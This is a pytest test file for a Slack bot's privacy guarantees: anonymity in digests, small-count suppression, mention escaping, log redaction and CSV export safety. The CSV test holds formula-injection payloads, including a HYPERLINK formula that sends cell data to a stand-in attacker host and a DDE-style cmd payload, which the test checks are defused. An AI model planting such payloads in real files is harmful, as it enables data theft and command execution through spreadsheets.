"""Outputs built for others keep the privacy promise: signed HTTP in, fake Slack and files out.

Check-ins and barriers arrive as Slack would send them; what reaches people is read back from
the fake Web API's recorded calls, the review pack, the barrier export and /metrics.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import (
    ALICE,
    BOB,
    CAROL,
    DAN,
    STEWARD,
    TEST_ALLIANCE,
    Live,
    alliance_config,
    yaml_dump,
)
from slack_requests import dm_channel_id, slash_command, view_submission
from slack_ui import fill, initial_state, wait_until
from typer.testing import CliRunner

from bot.cli import app as cli
from bot.domain.escalation import Action
from bot.logs import JsonFormatter, TextFormatter
from bot.render.digest import render_html
from bot.services.barriers import records_as_csv
from bot.slack.ids import View
from bot.views.barriers import BarrierForm

STEWARDS = "C0STEWARDS"
NASTY = "<!here> <!channel> <@U0EVIL> A&B <b>"
ESCAPED = "&lt;!here&gt; &lt;!channel&gt; &lt;@U0EVIL&gt; A&amp;B &lt;b&gt;"
RAW_PINGS = ("<!here>", "<!channel>", "<@U0EVIL>", "<b>", "A&B")


# ------------------------------------------------------------------------- helpers


def opened(live: Live, req: Any) -> dict[str, Any]:
    """Send a request that opens a modal; the modal as Slack received it."""
    before = len(live.slack.calls("views.open"))
    assert live.post(req).status_code == 200
    return live.slack.wait_for("views.open", count=before + 1)[-1].json_field("view")


def submit(live: Live, view: dict[str, Any], callback: str, user: str, answers: dict[str, Any]):
    """Submit a modal as `user`, filling its inputs by their labels."""
    resp = live.post(
        view_submission(
            callback,
            {**initial_state(view), **fill(view, answers)},
            user_id=user,
            private_metadata=view["private_metadata"],
            view_id=f"V{uuid.uuid4().hex[:10].upper()}",
            view={"blocks": view["blocks"]},
        )
    )
    assert resp.status_code == 200, resp.text
    return resp


def check_in(
    live: Live, user: str, learned: str, visibility: str, themes: list[str] | None = None
) -> None:
    """A check-in through `/checkin` and its modal, as a person would make it."""
    view = opened(live, slash_command("/checkin", user_id=user))
    labels = {
        "team": "Just my team",
        "alliance": "The alliance, with my name",
        "anonymous": "The alliance, anonymously",
    }
    answers: dict[str, Any] = {
        "What happened that you learned from?": learned,
        "Who can see this?": labels[visibility],
    }
    if themes:
        answers["Themes"] = themes
    before = live.scalar("SELECT count(*) FROM checkins")
    submit(live, view, View.CHECKIN, user, answers)
    assert live.scalar("SELECT count(*) FROM checkins") == before + 1


def raise_barrier(live: Live, user: str, title: str, what: str, anonymous: bool) -> int:
    """A barrier through `/escalate` and its modal; its id once its card is posted."""
    view = opened(live, slash_command("/escalate", "", user_id=user))
    answers = {
        "Title": title,
        "What gets in the way?": what,
        "Show my name to stewards?": "No, raise it anonymously"
        if anonymous
        else "Yes, show my name",
    }
    submit(live, view, BarrierForm.ESCALATE, user, answers)

    def posted() -> bool:
        rows = live.rows("SELECT message_ts FROM escalations ORDER BY id")
        return bool(rows) and rows[-1][0] is not None

    wait_until(posted)
    return live.scalar("SELECT max(id) FROM escalations")


def mrkdwn_of(node: Any) -> list[str]:
    """Every mrkdwn string in blocks (plain_text is never parsed for mentions by Slack)."""
    if isinstance(node, list):
        return [t for item in node for t in mrkdwn_of(item)]
    if not isinstance(node, dict):
        return []
    found = [node["text"]] if node.get("type") == "mrkdwn" else []
    return found + [t for value in node.values() for t in mrkdwn_of(value)]


def sent(live: Live, *methods: str) -> list[tuple[str, str]]:
    """(text, the blocks' mrkdwn) of every message LearnLoop sent by these Web API methods."""
    out = []
    for method in methods:
        for call in live.slack.calls(method):
            blocks = call.json_field("blocks") if "blocks" in call.params else None
            out.append((call.params.get("text", ""), "\n".join(mrkdwn_of(blocks or []))))
    return out


def steward_digest(live: Live) -> tuple[str, str, list[str]]:
    """Post the alliance digest; its fallback text, its blocks and the charts' alt texts."""
    digests = live.loop.services.digests
    result = digests.send(digests.destination("alliance"))
    assert result.status == "posted", result
    (call,) = [c for c in live.slack.calls("chat.postMessage") if c.params["channel"] == STEWARDS]
    alts = [c.params["alt_txt"] for c in live.slack.calls("files.getUploadURLExternal")]
    blocks = json.dumps(call.json_field("blocks"), ensure_ascii=False)
    return call.params["text"], blocks, alts


def without_suppression(**changes: Any) -> Any:
    """The test alliance with no suppression, so a leak cannot hide behind "fewer than"."""
    return alliance_config(alliance={**TEST_ALLIANCE["alliance"], "suppress_below": 1}, **changes)


# ------------------------------------------------------------------ anonymous and agencies


def test_an_anonymous_checkin_is_never_counted_against_its_agency(
    make_live: Callable[..., Live],
) -> None:
    live = make_live(alliance=without_suppression())
    check_in(
        live, CAROL, "Where people sleep tonight changed the plan.", "anonymous", ["Mental health"]
    )
    check_in(live, ALICE, "Joint visits with the ward saved a week.", "alliance", ["Housing"])

    text, blocks, alts = steward_digest(live)
    # The anonymous entry is quoted, tagged, and counted in the theme's total only.
    assert "Anonymous · Mental health" in blocks
    assert "• *Mental health* — 1\\n" in blocks or blocks.count("*Mental health* — 1") == 1
    assert "Hospital Discharge 1" not in blocks
    assert "Hospital Discharge: 1 learnings" not in blocks
    assert "Hospital Discharge: fewer than 1 learnings from fewer than 1 people" in blocks
    assert "Council Housing: 1 learnings from 1 people" in blocks
    assert "*Housing* — 1: Council Housing 1" in blocks
    # The alliance-wide total counts both.
    assert "2 learnings" in text
    # The chart draws Housing's named entry and says nothing of the anonymous one's agency.
    (alt,) = alts
    assert "Housing: 1 (Council Housing 1)" in alt
    assert "Mental health: 1." in alt and "Hospital Discharge" not in alt

    # The review pack (`learnloop report`) says the same.
    today = dt.date.today()
    view, charts = live.loop.services.digests.report(today - dt.timedelta(days=7), today)
    page = render_html(view, charts)
    assert "Hospital Discharge 1" not in page
    # The pack lays out the chat digest's own lines (it used to have tables of its own).
    assert "<li>Hospital Discharge: fewer than 1 learnings from fewer than 1 people</li>" in page


def test_an_agency_digest_leaves_its_anonymous_entries_out_of_its_counts(
    make_live: Callable[..., Live],
) -> None:
    digests = [
        {"id": "alliance", "channel": STEWARDS, "scope": "alliance"},
        {"id": "hospital", "channel": "C0HOSP", "scope": "agency:hospital"},
    ]
    live = make_live(alliance=without_suppression(digests=digests))
    check_in(
        live, CAROL, "Where people sleep tonight changed the plan.", "anonymous", ["Mental health"]
    )
    check_in(live, DAN, "A named note about thresholds.", "team", ["Housing"])
    service = live.loop.services.digests
    assert service.send(service.destination("hospital")).status == "posted"
    (call,) = [c for c in live.slack.calls("chat.postMessage") if c.params["channel"] == "C0HOSP"]
    blocks = json.dumps(call.json_field("blocks"), ensure_ascii=False)
    assert "Hospital Discharge: 1 learnings from 1 people" in blocks
    assert "Mental health* —" not in blocks  # its only entry is anonymous: no count at all
    assert "*Housing* — 1: Hospital Discharge 1" in blocks
    assert "1 learnings" in call.params["text"]


# ------------------------------------------------------------------ the threshold


def test_small_counts_read_fewer_than_the_threshold_in_every_output(
    live: Live, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    check_in(live, ALICE, "Joint visits with the ward saved a week.", "alliance", ["Housing"])
    check_in(live, BOB, "Housing panels move faster with a date.", "alliance", ["Housing"])
    barrier = raise_barrier(live, CAROL, "Beds wait for a date", "No date, no bed.", False)
    assert barrier

    text, blocks, alts = steward_digest(live)
    assert "*Housing* — fewer than 3: Council Housing fewer than 3" in blocks
    assert "*Housing* — 2" not in blocks and "Council Housing 2" not in blocks
    assert "fewer than 3 learnings" in text
    assert alts == []  # no count reaches 3, so no chart draws a bar

    today = dt.date.today()
    view, charts = live.loop.services.digests.report(today - dt.timedelta(days=7), today)
    page = render_html(view, charts)
    assert "<li><strong>Housing</strong> — fewer than 3: Council Housing fewer than 3</li>" in page
    assert charts == []

    metrics = live.http.get(live.server.url + "/metrics").text
    assert 'learnloop_checkins{source="modal"}' not in metrics
    assert "learnloop_suppress_below 3.0" in metrics

    monkeypatch.chdir(tmp_path)
    rows = list(csv.DictReader(io.StringIO(export(database_url, tmp_path))))
    assert [r["linked_checkins"] for r in rows] == ["fewer than 3"]


def export(database_url: str, tmp_path: Path, *args: str) -> str:
    """`learnloop barriers export` as a deployer runs it for board papers."""
    config = tmp_path / "alliance.yml"
    config.write_text(yaml_dump(TEST_ALLIANCE))
    result = CliRunner().invoke(
        cli,
        ["barriers", "export", *args],
        env={"DATABASE_URL": database_url, "LEARNLOOP_CONFIG": str(config)},
    )
    assert result.exit_code == 0, result.output
    return result.stdout


# ------------------------------------------------------------------ board papers


def test_the_barrier_register_csv_defuses_spreadsheet_formulas(
    live: Live, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    raise_barrier(live, ALICE, title, "+cmd|' /C calc'!A0", False)
    raise_barrier(live, BOB, "@SUM(1+1)*cmd", "-2+3 and more", True)
    raise_barrier(live, DAN, "A plain title", "Nothing odd - at all", False)
    monkeypatch.chdir(tmp_path)
    rows = list(csv.DictReader(io.StringIO(export(database_url, tmp_path))))
    assert [(r["title"], r["description"]) for r in rows] == [
        ("'" + title, "'+cmd|' /C calc'!A0"),
        ("'@SUM(1+1)*cmd", "'-2+3 and more"),
        ("A plain title", "Nothing odd - at all"),
    ]
    # Numbers and dates are left as they are.
    assert rows[0]["id"].isdigit() and rows[0]["raised_on"][:2] == "20"
    # A form trims leading tabs and carriage returns; text from elsewhere is defused too.
    record = {**rows[2], "title": "\tTabbed", "description": "\rReturned", "agencies": []}
    (row,) = csv.DictReader(io.StringIO(records_as_csv([record])))
    assert (row["title"], row["description"]) == ("'\tTabbed", "'\rReturned")


# ------------------------------------------------------------------ mrkdwn fallbacks


def test_user_and_config_text_arrives_escaped_in_text_and_blocks(
    make_live: Callable[..., Live],
) -> None:
    nasty_alliance = {**TEST_ALLIANCE["alliance"], "name": f"Alliance {NASTY}"}
    live = make_live(alliance=alliance_config(alliance=nasty_alliance))
    live.loop.services.prompts.send("weekly", now=True)
    check_in(live, ALICE, f"Learned {NASTY}", "alliance", ["Housing"])
    barrier = raise_barrier(live, BOB, f"Title {NASTY}", f"What {NASTY}", True)
    # A steward moves it up: the old card becomes a pointer, the raiser is told by DM.
    services = live.loop.services.escalations
    change = services.act("slack", STEWARD, barrier, None, Action.ESCALATE)
    services.publish(change)
    digests = live.loop.services.digests
    assert digests.send(digests.destination("alliance")).status == "posted"

    messages = sent(live, "chat.postMessage", "chat.update")
    assert len(messages) >= 8  # 4 prompts, thanks, card, raiser's DMs, pointer, digest
    for text, blocks in messages:
        for raw in RAW_PINGS:
            assert raw not in text, (raw, text)
            assert raw not in blocks, (raw, blocks[:300])
    texts = " ".join(t for t, _ in messages)
    assert f"Title {ESCAPED}" in texts  # the card's fallback
    assert f"Alliance {ESCAPED}" in texts  # the prompt's and the digest's
    assert any(f"Learned {ESCAPED}" in b for _, b in messages)


# ------------------------------------------------------------------ logs


@pytest.fixture
def every_log_line() -> Iterator[list[str]]:
    """Every line logged at any level, as the JSON and text formatters write it, and raw."""
    lines: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(JsonFormatter().format(record))
            lines.append(TextFormatter().format(record))
            lines.append(repr(record.args))
            lines.append(repr({k: v for k, v in vars(record).items() if k != "args"}))

    root = logging.getLogger()
    handler, level = Keep(level=logging.DEBUG), root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield lines
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


def test_no_log_line_carries_an_anonymous_raiser_or_author_id(
    live: Live, every_log_line: list[str]
) -> None:
    live.loop.services.prompts.send("weekly", now=True)
    barrier = raise_barrier(live, ALICE, "Beds wait for a date", "No date, no bed.", True)
    check_in(live, CAROL, "Asking where people sleep changed the plan.", "anonymous", ["Housing"])
    check_in(live, DAN, "Anonymous again, about thresholds.", "anonymous", ["Mental health"])
    services = live.loop.services.escalations
    for action in (Action.ACKNOWLEDGE, Action.ESCALATE):
        services.publish(services.act("slack", STEWARD, barrier, None, action))
    digests = live.loop.services.digests
    assert digests.send(digests.destination("alliance")).status == "posted"

    logged = "\n".join(every_log_line)
    assert "barrier" in logged and "raised" in logged  # the lines were captured
    for who in (ALICE, CAROL, DAN):
        for form in (who, dm_channel_id(who)):
            leaks = [line for line in every_log_line if form in line]
            assert leaks == [], leaks[:3]
